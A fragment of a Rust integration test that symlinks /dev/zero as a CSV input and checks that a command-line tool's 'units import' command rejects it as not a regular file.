    std::fs::create_dir_all(f.root().join("inputs")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", f.root().join("inputs/zero.csv")).unwrap();
    let stderr = f.fails_unchanged(&["units", "import", "inputs/zero.csv"], INVALID);
    assert!(stderr.contains("is not a regular file"), "{stderr}");
}
